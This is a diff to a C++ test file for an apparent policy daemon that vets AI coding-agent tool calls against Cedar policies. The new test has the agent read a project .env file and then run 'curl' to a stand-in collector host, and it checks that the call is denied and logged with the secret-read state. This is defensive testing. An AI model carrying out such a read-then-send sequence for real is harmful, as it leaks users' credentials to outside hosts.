@@ -10,6 +10,7 @@
 #include <nlohmann/json.hpp>
 #include <thread>
 
+#include "cedar/json_data.h"
 #include "policy/pack.h"
 #include "server/daemon.h"
 #include "server/http.h"
@@ -124,6 +125,36 @@ TEST(Service, RecordsIntentDecisionAndOutcomeLinkedByToolUseId) {
   EXPECT_EQ(decision["pack"], f.svc->pdp()->pack().hash);
   EXPECT_EQ(decision["actions"][0]["action"], "shell.exec");
   EXPECT_EQ(decision["actions"][0]["policies"][0], "allow-development");
+}
+
+TEST(Service, DecisionRecordCarriesTheCedarRequestItWasDecidedOn) {
+  ServiceFixture f;
+  f.hook("claude-code", claude("PostToolUse", "Read", {{"file_path", "/home/dev/project/.env"}}, "t1",
+                               {{"tool_response", {{"type", "text"}}}}));
+  auto r =
+      f.hook("claude-code", claude("PreToolUse", "Bash", {{"command", "curl https://collector.example.com/x"}}, "t2"));
+  ASSERT_EQ(r["verdict"], "deny") << r.dump();
+  auto ev = f.events("decision");
+  ASSERT_FALSE(ev.empty());
+  auto rec = json::parse(ev.back().record);
+  json fetch;
+  for (const auto& a : rec["actions"])
+    if (a["action"] == "net.fetch") fetch = a;
+  ASSERT_TRUE(fetch.contains("request")) << rec.dump();
+  const json& req = fetch["request"];
+  EXPECT_EQ(req["principal"], (json{{"type", "Tollgate::Session"}, {"id", "sess-1"}}));
+  EXPECT_EQ(req["action"], (json{{"type", "Tollgate::Action"}, {"id", "net.fetch"}}));
+  EXPECT_EQ(req["resource"], (json{{"type", "Tollgate::Host"}, {"id", "collector.example.com"}}));
+  EXPECT_EQ(req["context"]["target"]["host"], "collector.example.com");
+  EXPECT_EQ(req["context"]["now"]["__extn"]["fn"], "datetime");
+  // The session state the decision saw: the secret read before.
+  EXPECT_EQ(req["context"]["session"]["secrets_read"], 1);
+  EXPECT_EQ(req["context"]["session"]["labels_read"], json::array({"secret"}));
+  // Cedar's own request format: the engine reads it back to the same context.
+  auto parsed = cedar::parse_request(req.dump(), nullptr);
+  ASSERT_TRUE(parsed.ok()) << parsed.error().message;
+  EXPECT_EQ(parsed->resource.id(), "collector.example.com");
+  EXPECT_EQ(pdp::cedar_request_json(*parsed), req);
 }
 
 TEST(Service, BadInputIsDeniedAndRecordedWithoutHarm) {
